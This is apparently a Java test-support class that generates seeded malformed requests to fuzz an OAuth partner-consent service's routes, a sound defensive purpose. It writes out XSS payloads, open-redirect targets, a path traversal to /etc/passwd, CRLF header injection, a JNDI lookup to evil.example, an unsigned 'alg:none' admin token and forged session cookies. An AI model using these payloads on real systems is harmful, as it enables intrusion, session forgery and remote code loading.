package dev.partnerconsent.it.support;

import com.nimbusds.oauth2.sdk.id.State;
import dev.partnerconsent.signin.SignInCookie;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Random;

/**
 * Generates malformed requests from a seed (a failing one is reproduced from the seed the test prints) for the start,
 * the consent callback (GET and POST), the operator sign-in, pages, actions and API: parameters missing, duplicated,
 * oversized (to 1 MB), not UTF-8, with control characters, markup or open-redirect targets; sealed cookies forged,
 * truncated or sealed with another key; wrong methods, content types and Host headers.
 */
public final class HostileRequests {

    /** Raw markup: if any of these comes back verbatim the page reflected input without escaping it. */
    public static final List<String> MARKUP = List.of("<script>alert('pc')</script>", "\"><img src=x onerror=alert(1)>",
            "'onfocus='alert(2)", "<svg/onload=alert(3)>");
    public static final List<String> EVIL_TARGETS = List.of("https://evil.example/", "//evil.example/", "/\\evil.example",
            "https:evil.example", "javascript:alert(1)", "%2F%2Fevil.example", "/%09/evil.example", "\\\\evil.example");

    private static final List<String> PARAMS = List.of("code", "state", "error", "error_description", "error_uri",
            "session_state", "login_hint", "domain_hint", "return", "redirect_uri", "prompt", "id_token", "csrf",
            "tenant", "admin_consent", "response_mode");
    private static final List<String> ODD_METHODS = List.of("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND",
            "CONNECT", "FOO");
    private static final List<String> CONTENT_TYPES = List.of("application/x-www-form-urlencoded",
            "application/x-www-form-urlencoded; charset=ISO-8859-1", "application/x-www-form-urlencoded; charset=UTF-7",
            "application/json", "text/plain", "multipart/form-data", "multipart/form-data; boundary=--x", "%%%/;;",
            "application/xml");

    /** One generated request: a label for the report, the target route and the bytes on the wire. */
    public record Request(long seed, String label, String method, String path, int headerBytes, byte[] wire) {
        public boolean oversizedHead() {
            return headerBytes > 8 * 1024;
        }

        @Override
        public String toString() {
            return "seed " + seed + " " + label + " (" + method + " " + path + ", " + headerBytes + "-byte head, "
                    + wire.length + " bytes)";
        }
    }

    private final String host;

    public HostileRequests(String host) {
        this.host = host;
    }

    public Request generate(long seed) {
        Random r = new Random(seed);
        List<String> labels = new ArrayList<>();
        String path = route(r);
        String method = method(r, labels);
        String params = params(r, labels);
        boolean inBody = method.equals("POST") && r.nextBoolean();
        String target = path + (!inBody && !params.isEmpty() ? "?" + params : "") + (r.nextInt(20) == 0 ? rawBytes(labels) : "");
        List<String> headers = new ArrayList<>();
        headers.add("Host: " + host(r, labels));
        cookies(r, params, labels).ifPresent(c -> headers.add("Cookie: " + c));
        if (r.nextInt(8) == 0) {
            headers.add("Authorization: Bearer " + (r.nextBoolean() ? "eyJhbGciOiJub25lIn0.eyJyb2xlcyI6WyJQYXJ0bmVyQ29uc2VudC5BZG1pbiJdfQ."
                    : "x".repeat(r.nextInt(3000))));
            labels.add("forged bearer");
        }
        byte[] body = inBody ? params.getBytes(StandardCharsets.ISO_8859_1)
                : method.equals("GET") ? new byte[0] : (MARKUP.get(r.nextInt(MARKUP.size())) + "=1").getBytes(StandardCharsets.UTF_8);
        if (body.length > 0 || method.equals("POST")) {
            String type = CONTENT_TYPES.get(r.nextInt(CONTENT_TYPES.size()));
            headers.add("Content-Type: " + type);
            if (r.nextInt(10) == 0) {
                headers.add("Content-Type: text/html"); // duplicated header
                labels.add("two content types");
            }
            headers.add("Content-Length: " + body.length);
        }
        headers.add("Connection: close");
        String head = method + " " + target + " HTTP/1.1\r\n" + String.join("\r\n", headers) + "\r\n\r\n";
        ByteArrayOutputStream wire = new ByteArrayOutputStream();
        byte[] headBytes = head.getBytes(StandardCharsets.ISO_8859_1);
        wire.writeBytes(headBytes);
        wire.writeBytes(body);
        return new Request(seed, String.join(", ", labels), method, path, headBytes.length, wire.toByteArray());
    }

    private static String route(Random r) {
        return switch (r.nextInt(14)) {
            case 0, 1, 2 -> "/consent/start";
            case 3, 4, 5, 6 -> "/consent/callback";
            case 7 -> "/operator/signin";
            case 8 -> "/operator/callback";
            case 9 -> "/operator/signout";
            case 10 -> List.of("/admin/", "/admin/consents.xhtml", "/admin/actions/refresh", "/admin/actions/disable").get(r.nextInt(4));
            default -> List.of("/api/consents", "/api/consents/refresh", "/api/consents/" + ItTenants.ALPHA + "/refresh",
                    "/api/consents/" + ItTenants.ALPHA + "/check", "/api/consents/" + ItTenants.ALPHA + "/access-token",
                    "/api/consents/..%2F..%2Fetc", "/api/consents/" + "9".repeat(300)).get(r.nextInt(7));
        };
    }

    private static String method(Random r, List<String> labels) {
        if (r.nextInt(5) == 0) {
            String odd = ODD_METHODS.get(r.nextInt(ODD_METHODS.size()));
            labels.add("method " + odd);
            return odd;
        }
        return r.nextBoolean() ? "GET" : "POST";
    }

    private static String params(Random r, List<String> labels) {
        if (r.nextInt(12) == 0) {
            labels.add("2,000 parameters");
            StringBuilder many = new StringBuilder();
            for (int i = 0; i < 2_000; i++) {
                many.append(i == 0 ? "" : "&").append("p").append(i).append('=').append(i);
            }
            return many.toString();
        }
        List<String> parts = new ArrayList<>();
        int n = r.nextInt(5);
        if (n == 0) {
            labels.add("no parameters");
        }
        for (int i = 0; i < n; i++) {
            String name = r.nextInt(15) == 0 ? value(r, labels) : PARAMS.get(r.nextInt(PARAMS.size()));
            parts.add(name + "=" + value(r, labels));
            if (r.nextInt(4) == 0) {
                parts.add(name + "=" + value(r, labels));
                labels.add("duplicated " + (name.length() > 20 ? "parameter" : name));
            }
            if (r.nextInt(10) == 0) {
                parts.add(name);
                labels.add("parameter without '='");
            }
        }
        if (r.nextInt(3) == 0) {
            parts.add("state=" + plausibleState(r)); // a state the callback takes seriously, paired with a forged cookie
        }
        return String.join("&", parts);
    }

    private static String plausibleState(Random r) {
        return Long.toString(Math.abs(r.nextLong()), 36) + "-" + Long.toString(Math.abs(r.nextLong()), 36) + "_state";
    }

    private static String value(Random r, List<String> labels) {
        return switch (r.nextInt(14)) {
            case 0 -> "";
            case 1, 2 -> enc(MARKUP.get(r.nextInt(MARKUP.size())));
            case 3 -> {
                labels.add("not UTF-8");
                yield "%FF%FE%C0%AF%ED%A0%80";                   // invalid and overlong sequences, a lone surrogate
            }
            case 4 -> {
                labels.add("control characters");
                yield enc("a\u0000b\u0007c\r\nSet-Cookie: pc_injected=1\r\nX-Injected: 1");
            }
            case 5 -> {
                int size = switch (r.nextInt(3)) {
                    case 0 -> 9_000;
                    case 1 -> 70_000;
                    default -> 1_048_576;
                };
                labels.add("oversized " + size);
                yield "x".repeat(size);
            }
            case 6, 7 -> enc(EVIL_TARGETS.get(r.nextInt(EVIL_TARGETS.size())));
            case 8 -> enc("AADSTS50011: " + MARKUP.get(0));
            case 9 -> enc("\u202e\ud83d\ude00" + "é".repeat(r.nextInt(50)));
            case 10 -> enc("../../../../etc/passwd");
            case 11 -> "%";                                              // a broken percent escape
            case 12 -> enc("${jndi:ldap://evil.example/a}#{7*7}");       // expression and lookup injection
            default -> Long.toString(r.nextLong(), 36);
        };
    }

    /** Raw bytes above 0x7F straight in the request line, which no URI may contain. */
    private static String rawBytes(List<String> labels) {
        labels.add("raw 8-bit bytes in the request line");
        return new String(new byte[] {'&', 'q', '=', (byte) 0xC3, (byte) 0x28, (byte) 0xFF}, StandardCharsets.ISO_8859_1);
    }

    private String host(Random r, List<String> labels) {
        return switch (r.nextInt(20)) {
            case 0 -> {
                labels.add("foreign Host");
                yield "evil.example";
            }
            case 1 -> {
                labels.add("Host with markup");
                yield "\"><script>alert(9)</script>";
            }
            default -> host;
        };
    }

    private static Optional<String> cookies(Random r, String params, List<String> labels) {
        int at = params.lastIndexOf("state=");
        String state = at < 0 ? plausibleState(r) : params.substring(at + 6).split("&")[0];
        String signInName = SignInCookie.nameFor(new State(state.isEmpty() ? "empty" : state));
        return switch (r.nextInt(9)) {
            case 0, 1 -> Optional.empty();
            case 2 -> {
                labels.add("sign-in cookie sealed with another key");
                yield Optional.of(signInName + "=" + ForgedCookies.signIn(state, ForgedCookies.randomKey(r)));
            }
            case 3 -> {
                labels.add("truncated sign-in cookie");
                String sealed = ForgedCookies.signIn(state, ForgedCookies.randomKey(r));
                yield Optional.of(signInName + "=" + sealed.substring(0, r.nextInt(sealed.length())));
            }
            case 4 -> {
                labels.add("operator session sealed with the sign-in key");
                yield Optional.of("pc_operator=" + ForgedCookies.operatorSession(ForgedCookies.appCookieKey()));
            }
            case 5 -> {
                labels.add("operator session sealed with a random key");
                yield Optional.of("pc_operator=" + ForgedCookies.operatorSession(ForgedCookies.randomKey(r)));
            }
            case 6 -> {
                labels.add("garbage cookies");
                yield Optional.of("pc_operator=" + "A".repeat(r.nextInt(6000)) + "; " + signInName + "=%FF%00\"';"
                        + " pc_operator=dup; JSESSIONID=attacker");
            }
            case 7 -> {
                labels.add("sign-in cookie sealed for another state");
                yield Optional.of(signInName + "=" + ForgedCookies.signIn(plausibleState(r), ForgedCookies.appCookieKey()));
            }
            default -> {
                labels.add("200 cookies");
                StringBuilder many = new StringBuilder();
                for (int i = 0; i < 200; i++) {
                    many.append(i == 0 ? "" : "; ").append("pc_signin_").append(i).append('=').append(i);
                }
                yield Optional.of(many.toString());
            }
        };
    }

    private static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }
}
